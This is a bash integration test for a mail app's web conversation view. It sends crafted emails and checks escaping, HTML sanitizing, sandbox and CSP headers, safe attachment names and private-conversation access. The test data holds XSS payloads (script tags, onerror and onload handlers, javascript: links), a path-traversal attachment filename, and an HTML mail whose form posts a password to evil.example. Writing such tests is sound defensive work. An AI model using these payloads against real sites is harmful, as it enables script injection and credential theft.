#!/usr/bin/env bash
# 99-web-conversation.sh - the conversation page, the sandboxed HTML view
# and attachment downloads, through lighttpd and mailroom.cgi with curl.
#
# Three real messages go through Postfix and the worker into one
# conversation: a customer's text mail with a hostile subject, sender
# name and body (quoted history and a signature); our reply through the
# originating service, multipart with a hostile HTML part and a binary
# attachment whose name tries to climb directories; and the customer's
# HTML-only answer full of script, event handlers, javascript: links,
# remote images and CSS, meta refresh, base, form, svg and iframe.
#
# 1. The page: messages in order with direction, everything escaped, the
#    history folded, the HTML link and sandboxed frame, attachment links,
#    the timeline (note, reminder, recorded action), labels and every
#    action form of docs/web.md; GET changes nothing.
# 2. The HTML view: nothing executable or remote left; its own headers.
# 3. The attachment: the same bytes (SHA-256) as sent, a safe file name,
#    a download that is never rendered.
# 4. Someone else's private conversation: 404 on page, HTML and
#    attachment, like one that does not exist; its owner still sees it.
# 5. Auditors read without forms; malformed paths are 404.
[ -n "${BASH_VERSION:-}" ] || exec bash "$0" "$@"
. "$(dirname "$0")/lib.sh"
require_stack

CTL=$top_builddir/ctl/mailroomctl
[[ -x $CTL ]] || bail "mailroomctl not built"
[[ -n ${MAILROOM_URL:-} ]] || bail "MAILROOM_URL is not set: ./dev.sh up starts lighttpd"
[[ -n $(stack_workers) ]] || devsh start worker || bail "mailroom-worker is not running and did not start"
URL=$MAILROOM_URL
BASE=${URL#"${URL%/mailroom.cgi*}"}

tag=$(date +%s)$$
ann=ann$tag bob=bob$tag aud=aud$tag
pw='correct horse battery staple'
dom="cust-$tag.example"
printf '%s\n' "$pw" >"$T_TMP/pw"
for u in "$ann:agent" "$bob:agent" "$aud:auditor"; do
	"$CTL" -c "$MAILROOM_CONF" user add "${u%%:*}" --role "${u#*:}" --password-file "$T_TMP/pw" >/dev/null ||
		bail "user add ${u%%:*} failed"
done
conv=0
cleanup() {
	sql_admin "UPDATE mailroom.conversations SET private = false, owner_id = NULL WHERE id = $conv;
	           DELETE FROM mailroom.notes WHERE conversation_id = $conv;
	           DELETE FROM mailroom.reminders WHERE conversation_id = $conv;
	           DELETE FROM mailroom.labels WHERE name = 'lbl-$tag';
	           DELETE FROM mailroom.users WHERE login IN ('$ann', '$bob', '$aud')"
}
at_exit cleanup

# deliver NAME SERVER ENVELOPE-FROM RCPT - send $T_TMP/NAME.eml; prints its record id
deliver() {
	local qid id end=$((SECONDS + 120))
	qid=$(send_one "$T_TMP/$1.out" "$T_TMP/$1.eml" --server "$2" --from "$3" --to "$4") || return 1
	while :; do
		id=$(sql "SELECT id FROM auditor.messages WHERE queue_id = '$qid' AND $MINE")
		[[ -n $id ]] && break
		((SECONDS >= end)) && return 1
		sleep 0.2
	done
	printf '%s\n' "$id"
}

# conversation_of ID - the conversation the worker put record ID in (waits)
conversation_of() {
	[[ -n $1 ]] || return 1
	wait_rows "SELECT count(*) FROM auditor.classifications WHERE id = '$1' AND conversation_id IS NOT NULL" 1 60 ||
		return 1
	sql "SELECT conversation_id FROM auditor.classifications WHERE id = '$1'"
}

# get COOKIE PATH [NAME] - GET SN/PATH; prints the status, keeps the
# headers in $T_TMP/NAME.hdr and the body in $T_TMP/NAME.body
get() {
	curl -s -g -D "$T_TMP/${3:-get}.hdr" -o "$T_TMP/${3:-get}.body" -w '%{http_code}' \
		${1:+-H "Cookie: __Host-mailroom=$1"} "$URL$2"
}

# --- the mail ------------------------------------------------------------------------
crlf() { sed 's/$/\r/'; }
{
	printf 'From: "<img src=x onerror=alert(1)> Evil" <evil@%s>\n' "$dom"
	printf 'To: info@example.com\nSubject: <script>alert(1)</script> Order & "Q" %s\n' "$tag"
	printf 'Message-ID: <m1.%s@%s>\nDate: %s\nMIME-Version: 1.0\n' "$tag" "$dom" "$(date -R)"
	printf 'Content-Type: text/plain; charset=utf-8\n\n'
	printf 'Hello <b>team</b> <script>alert(2)</script> first-%s\n\n' "$tag"
	printf 'On Monday someone wrote:\n> quoted old line %s\n> more history\n\n-- \nEvil Sig %s\n' "$tag" "$tag"
} | crlf >"$T_TMP/m1.eml"

head -c 100000 /dev/urandom >"$T_TMP/payload.bin"
{
	printf 'From: Info <info@example.com>\nTo: <evil@%s>\nSubject: Re: Order %s\n' "$dom" "$tag"
	printf 'Message-ID: <m2.%s@example.com>\nIn-Reply-To: <m1.%s@%s>\nReferences: <m1.%s@%s>\n' \
		"$tag" "$tag" "$dom" "$tag" "$dom"
	printf 'Date: %s\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="out-%s"\n\n' "$(date -R)" "$tag"
	printf -- '--out-%s\nContent-Type: multipart/alternative; boundary="alt-%s"\n\n' "$tag" "$tag"
	printf -- '--alt-%s\nContent-Type: text/plain; charset=utf-8\n\nReply text reply-%s\n\n' "$tag" "$tag"
	printf -- '--alt-%s\nContent-Type: text/html; charset=utf-8\n\n' "$tag"
	printf '<p onclick="alert(3)">Reply <b>html</b> reply-%s<script>alert(4)</script></p>\n\n' "$tag"
	printf -- '--alt-%s--\n\n--out-%s\nContent-Type: application/x-evil\n' "$tag" "$tag"
	printf "Content-Disposition: attachment; filename*=utf-8''..%%2F..%%2Fevil%%22na%%C3%%A4me.bin\n"
	printf 'Content-Transfer-Encoding: base64\n\n'
	base64 -w 76 "$T_TMP/payload.bin"
	printf -- '--out-%s--\n' "$tag"
} | crlf >"$T_TMP/m2.eml"

{
	printf 'From: "Evil" <evil@%s>\nTo: info@example.com\nSubject: Re: Re: Order %s\n' "$dom" "$tag"
	printf 'Message-ID: <m3.%s@%s>\nIn-Reply-To: <m2.%s@example.com>\n' "$tag" "$dom" "$tag"
	printf 'References: <m1.%s@%s> <m2.%s@example.com>\n' "$tag" "$dom" "$tag"
	printf 'Date: %s\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n' "$(date -R)"
	cat <<EOF
<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/x.css"><style>body{background:url(http://evil.example/b.png)}</style>
<script>alert(5)</script></head><body onload="alert(6)">
<p>HTMLONLY-$tag <a href="https://ok.example/page">good link</a> <a href="javascript:alert(7)">bad link</a></p>
<img src="http://evil.example/track.gif" alt="Tracker"><img src=x onerror="alert(8)">
<div style="background-image:url(http://evil.example/c.png)">styled</div>
<form action="http://evil.example/steal"><input name="password" type="password"><button>Send</button></form>
<svg onload="alert(9)"><script>alert(10)</script></svg><iframe src="http://evil.example/frame"></iframe>
</body></html>
EOF
} | crlf >"$T_TMP/m3.eml"

id1=$(deliver m1 "$MAILROOM_SMTP" "evil@$dom" info@example.com)
sleep 1.1
id2=$(deliver m2 "$MAILROOM_SUBMIT" info@example.com "evil@$dom")
sleep 1.1
id3=$(deliver m3 "$MAILROOM_SMTP" "evil@$dom" info@example.com)
like "$id1 $id2 $id3" '^[0-9a-f-]{36} [0-9a-f-]{36} [0-9a-f-]{36}$' "three messages recorded"
conv=$(conversation_of "$id1")
like "$conv" '^[0-9]+$' "the first message is in conversation $conv"
is "$(conversation_of "$id2") $(conversation_of "$id3")" "$conv $conv" "the reply and the answer join it"
conv=${conv:-0}

web_sign_in "$ann" "$pw"
ac=$SC
is "$ST" 303 "ann (agent) signs in"
web_sign_in "$bob" "$pw"
bc=$SC
is "$ST" 303 "bob (agent) signs in"
web_sign_in "$aud" "$pw"
uc=$SC
is "$ST" 303 "aud (auditor) signs in"

# the timeline's rows and a label, as the action handlers would write them
ann_id=$(sql_admin "SELECT id FROM mailroom.users WHERE login = '$ann'")
sql_admin "INSERT INTO mailroom.notes (conversation_id, kind, body, author)
             VALUES ($conv, 'phone', 'Called <script>alert(11)</script> note-$tag', $ann_id);
           INSERT INTO mailroom.reminders (conversation_id, due_at, message, created_by, assignee)
             VALUES ($conv, now() + interval '1 day', 'Remind <b>rem-$tag</b>', $ann_id, $ann_id);
           SELECT mailroom.audit_append('web:$ann', 'conversation.status', 'conversation:$conv',
             '{\"status\": \"open\"}', '{\"status\": \"<i>closed</i>\"}');
           WITH l AS (INSERT INTO mailroom.labels (name) VALUES ('lbl-$tag') RETURNING id)
           INSERT INTO mailroom.conversation_labels (conversation_id, label_id) SELECT $conv, id FROM l" >/dev/null
label_id=$(sql_admin "SELECT id FROM mailroom.labels WHERE name = 'lbl-$tag'")
reads_before=$(sql_admin "SELECT count(*) FROM mailroom.conversation_reads WHERE conversation_id = $conv")
audit_before=$(sql_admin "SELECT count(*) FROM mailroom.audit WHERE object = 'conversation:$conv'")

# --- 1. the page ---------------------------------------------------------------------
is "$(get "" "/c/$conv")" 303 "not signed in: to the sign-in page"
is "$(get "$ac" "/c/$conv" page)" 200 "ann sees the conversation"
page=$(cat "$T_TMP/page.body")
like "$page" "<h1 class=\"title\">&lt;script&gt;alert\(1\)&lt;/script&gt; Order &amp; &quot;Q&quot; $tag</h1>" \
	"the title, escaped"
# the page's own script is the one file of ours; nothing else may be markup of the mail
ours='<script src="/static/mailroom.js" defer></script>'
unlike "${page//"$ours"/}" "<script|<img|<b>team|onerror=\"|<svg|<iframe src" "no markup from the mail on the page"
like "$page" "<span class=\"from\">&lt;img src=x onerror=alert\(1\)&gt; Evil &lt;evil@$dom&gt;</span>" \
	"the sender's name, escaped"
like "$page" "Hello &lt;b&gt;team&lt;/b&gt; &lt;script&gt;alert\(2\)&lt;/script&gt; first-$tag" "the body, escaped"
p1=$(grep -bo "id=\"m-$id1\"" <<<"$page" | cut -d: -f1)
p2=$(grep -bo "id=\"m-$id2\"" <<<"$page" | cut -d: -f1)
p3=$(grep -bo "id=\"m-$id3\"" <<<"$page" | cut -d: -f1)
ok "the messages in the order received ($p1 < $p2 < $p3)" test "${p1:-0}" -lt "${p2:-0}" -a "${p2:-0}" -lt "${p3:-0}"
like "$page" "<article class=\"message in\" id=\"m-$id1\">" "the customer's mail is in"
like "$page" "<article class=\"message out\" id=\"m-$id2\">" "our reply is out"
like "$page" "<details class=\"quoted\"><summary>Quoted text</summary><pre>[^<]*quoted old line $tag" \
	"the quoted history is folded"
like "$page" "<details class=\"signature\"><summary>Signature</summary><pre>[^<]*Evil Sig $tag" "the signature is folded"
like "$page" "<pre class=\"text\">Hello" "the new text is shown"
like "$page" "Text of an HTML-only message.</p><pre class=\"text\">HTMLONLY-$tag good link bad link" \
	"HTML-only mail shown as text"
like "$page" "<a class=\"show-html\" href=\"$BASE/c/$conv/m/$id3/html\">" "a link to the HTML version"
like "$page" "<iframe sandbox=\"allow-popups allow-popups-to-escape-sandbox\" loading=\"lazy\" title=\"HTML version\" src=\"$BASE/c/$conv/m/$id2/html\">" \
	"the HTML in a sandboxed frame"
unlike "$page" "allow-scripts|allow-same-origin" "the frame may neither script nor be same-origin"
unlike "$page" "m/$id1/html" "no HTML link for a text-only mail"
like "$page" "<a class=\"attachment\" href=\"$BASE/c/$conv/m/$id2/a/0\">\.\./\.\./evil&quot;na.{1,2}me\.bin</a>" \
	"the attachment's link, its name escaped"
like "$page" "<ol class=\"timeline\">" "the timeline"
like "$page" "<li class=\"phone\">.*Called &lt;script&gt;alert\(11\)&lt;/script&gt; note-$tag" "the note in it, escaped"
like "$page" "<li class=\"reminder\">.*Remind &lt;b&gt;rem-$tag&lt;/b&gt;" "the reminder in it"
like "$page" "<li class=\"action\">.*web:$ann</span> <span class=\"what\">conversation.status</span> <span class=\"extra\">\{&quot;status&quot;: &quot;&lt;i&gt;closed" \
	"the recorded action in it"
like "$page" "<span class=\"label\">lbl-$tag</span>" "the label"
like "$page" "<button type=\"submit\" name=\"label\" value=\"$label_id\">Remove lbl-$tag</button>" "its remove button"
for a in claim release handover assign status title folder private label unlabel note reminder read unread classify priority; do
	like "$page" "<form method=\"post\" action=\"$BASE/c/$conv/$a\" id=\"act-$a\"" "the $a form"
done
n=0
for k in customer supplier internal newsletter advertising; do
	[[ $page =~ \<button\ type=\"submit\"\ name=\"class\"\ value=\"$k\" ]] && n=$((n + 1))
done
is "$n" 5 "five classify buttons"
like "$page" "<option value=\"$ann_id\">" "the users to hand over to"
like "$page" "<input name=\"title\" required maxlength=\"200\" value=\"&lt;script&gt;alert\(1\)&lt;/script&gt; Order &amp; &quot;Q&quot; $tag\">" \
	"the title field holds the title, escaped"
like "$page" "<input type=\"datetime-local\" name=\"due\"" "the reminder's date field"
is "$(sql_admin "SELECT count(*) FROM mailroom.conversation_reads WHERE conversation_id = $conv") $(sql_admin \
	"SELECT count(*) FROM mailroom.audit WHERE object = 'conversation:$conv'")" "$reads_before $audit_before" \
	"GET changed nothing: not read, nothing audited"

# --- 2. the HTML view -----------------------------------------------------------------
is "$(get "$ac" "/c/$conv/m/$id3/html" h3)" 200 "the HTML view of the HTML-only answer"
h=$(tr -d '\r' <"$T_TMP/h3.hdr")
like "$h" "Content-Security-Policy: default-src 'none'; style-src 'unsafe-inline'; sandbox allow-popups allow-popups-to-escape-sandbox; frame-ancestors 'self'" \
	"its own CSP: nothing loads, no script, a sandbox"
like "$h" "X-Frame-Options: SAMEORIGIN" "framable by our pages only"
unlike "$h" "X-Frame-Options: DENY" "not DENY"
like "$h" "Content-Type: text/html; charset=utf-8" "HTML"
like "$h" "X-Content-Type-Options: nosniff" "nosniff"
body=$(cat "$T_TMP/h3.body")
like "$body" "HTMLONLY-$tag" "the text is there"
like "$body" "<a href=\"https://ok.example/page\" rel=\"noopener noreferrer\" target=\"_blank\">good link</a>" \
	"the https link, opening without opener or referrer"
like "$body" "\[Tracker\]" "an image as its alt text"
unlike "$body" "<script|[[:space:]]on[a-z]+=|javascript:|evil\.example|<meta http|<base|<link|<form|<input|<svg|<iframe|<img|src=|url\(" \
	"nothing executable and nothing remote left"
is "$(get "$ac" "/c/$conv/m/$id2/html" h2)" 200 "the HTML view of our reply"
unlike "$(cat "$T_TMP/h2.body")" "<script|onclick" "  without script or handlers"
like "$(cat "$T_TMP/h2.body")" "Reply <b>html</b> reply-$tag" "  with its harmless markup"
is "$(get "$ac" "/c/$conv/m/$id1/html")" 404 "no HTML view of a text-only mail"

# --- 3. the attachment ----------------------------------------------------------------
is "$(get "$ac" "/c/$conv/m/$id2/a/0" att)" 200 "the attachment downloads"
is "$(sha256_of "$T_TMP/att.body")" "$(sha256_of "$T_TMP/payload.bin")" "the same bytes as sent (SHA-256)"
h=$(tr -d '\r' <"$T_TMP/att.hdr")
like "$h" "Content-Type: application/octet-stream" "as application/octet-stream, whatever the sender said"
like "$h" "Content-Disposition: attachment; filename=\"_.._evil_na_me.bin\"; filename\*=UTF-8''_.._evil_na%C3%A4me.bin" \
	"a safe file name: no slashes, quotes or leading dots"
like "$h" "X-Content-Type-Options: nosniff" "nosniff"
like "$h" "Content-Security-Policy: default-src 'none';.*sandbox" "the sandbox CSP"
# the recorded size and digest are what the download is held to
att_row="message_id = '$id2' AND position = 0"
sql_admin "UPDATE mailroom.attachments SET size_bytes = 60000000 WHERE $att_row" >/dev/null
is "$(get "$ac" "/c/$conv/m/$id2/a/0")" 413 "an attachment recorded larger than 50 MiB is refused (413)"
sql_admin "UPDATE mailroom.attachments SET size_bytes = 100000, sha256 = sha256('other') WHERE $att_row" >/dev/null
is "$(get "$ac" "/c/$conv/m/$id2/a/0" bad)" 500 "bytes that differ from the recorded SHA-256 are not sent"
unlike "$(cat "$T_TMP/bad.hdr")" "Content-Disposition" "  only an error page, no download"
sql_admin "UPDATE mailroom.attachments SET sha256 = decode('$(sha256_of "$T_TMP/payload.bin")', 'hex')
           WHERE $att_row" >/dev/null
is "$(get "$ac" "/c/$conv/m/$id2/a/1")" 404 "no attachment 1"
is "$(get "$ac" "/c/$conv/m/$id1/a/0")" 404 "no attachment on the text mail"

# --- 4. private -----------------------------------------------------------------------
sql_admin "UPDATE mailroom.conversations SET private = true,
             owner_id = (SELECT id FROM mailroom.users WHERE login = '$bob') WHERE id = $conv" >/dev/null
is "$(get "$ac" "/c/$conv" priv)" 404 "bob's private conversation: 404 for ann"
is "$(get "$ac" "/c/999999999999999" none)" 404 "a conversation that does not exist: 404"
is "$(cat "$T_TMP/priv.body")" "$(cat "$T_TMP/none.body")" "the two 404 pages are the same"
is "$(get "$ac" "/c/$conv/m/$id3/html")" 404 "its HTML view: 404 for ann"
is "$(get "$ac" "/c/$conv/m/$id2/a/0")" 404 "its attachment: 404 for ann"
is "$(get "$bc" "/c/$conv" bpage)" 200 "bob, its owner, sees it"
like "$(cat "$T_TMP/bpage.body")" "<dd class=\"private\">yes, only you see it</dd>" "marked private"
like "$(cat "$T_TMP/bpage.body")" "<input type=\"hidden\" name=\"private\" value=\"0\">" "bob may share it again"
is "$(get "$bc" "/c/$conv/m/$id2/a/0" batt)" 200 "bob downloads its attachment"
is "$(sha256_of "$T_TMP/batt.body")" "$(sha256_of "$T_TMP/payload.bin")" "  the same bytes"
sql_admin "UPDATE mailroom.conversations SET private = false, owner_id = NULL WHERE id = $conv" >/dev/null

# a long text is cut for the page (the worker caps texts at 1 MiB; 500 such would be too much)
sql_admin "UPDATE mailroom.message_meta SET text_quoted = repeat('q', 70000) WHERE message_id = '$id1'" >/dev/null
get "$ac" "/c/$conv" long >/dev/null
like "$(cat "$T_TMP/long.body")" "A long text: only its first 65536 characters are shown." "a long text is cut, and says so"
is "$(grep -o 'q\{1000,\}' "$T_TMP/long.body" | awk '{ print length }')" 65536 "  to 65536 characters"

# --- 5. auditors and bad paths ----------------------------------------------------------
is "$(get "$uc" "/c/$conv" upage)" 200 "an auditor reads the page"
unlike "$(cat "$T_TMP/upage.body")" "id=\"act-" "without action forms"
for bad in "/c/" "/c/0" "/c/01" "/c/abc" "/c/$conv/" "/c/$conv/x" "/c/-1" "/c/1234567890123456789" \
	"/c/$conv/m/${id3^^}/html" "/c/$conv/m/${id3:0:35}/html" "/c/$conv/m/$id3/html/" "/c/$conv/m/$id3/HTML" \
	"/c/$conv/m/$id2/a/00" "/c/$conv/m/$id2/a/" "/c/$conv/m/$id2/a/-1" "/c/$conv/m/$id2/a/0x0" \
	"/c/$conv/m/$id2/a/99999999999" "/c/$conv/m/$id2" "/c/$conv/m/{$id2}/html" "/c/$((conv + 1000000))/m/$id2/a/0"; do
	is "$(get "$ac" "$bad")" 404 "$bad: 404"
done
other=$(sql_admin "SELECT max(id) FROM mailroom.conversations WHERE id <> $conv")
[[ -n $other ]] && is "$(get "$ac" "/c/$other/m/$id2/a/0")" 404 "the attachment under another conversation's id: 404"

is "$(asan_reports)" "" "no sanitizer reports"
done_testing
